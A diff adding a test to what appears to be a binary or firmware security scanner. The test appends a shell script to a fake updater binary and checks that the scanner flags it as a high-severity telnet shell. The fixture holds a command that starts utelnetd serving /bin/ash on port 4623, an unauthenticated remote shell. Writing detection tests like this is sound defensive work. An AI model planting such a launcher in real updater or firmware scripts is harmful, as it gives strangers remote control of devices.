@@ -22,3 +22,11 @@ def test_source_tree_scripts_are_left_to_the_build_analyzer(tmp_path):
     (tmp_path / "main.c").write_text("int main(void) { return 0; }\n")
     res = scan(tmp_path, PipelineOptions(jobs=1))
     assert not [f for f in res.findings if f.rule.startswith("phonehome.")]
+
+
+def test_remote_shell_in_a_script_appended_to_an_updater(tmp_path):
+    target = tmp_path / "updater.bin"
+    target.write_bytes(STUB.read_bytes() + b"#!/bin/sh\n/usr/sbin/utelnetd -l /bin/ash -p 4623 &\nexit 0\n")
+    res = scan(target, PipelineOptions(jobs=1))
+    hits = [f for f in res.findings if f.rule == "services.telnetd-shell"]
+    assert len(hits) == 1 and hits[0].severity.value == "high"
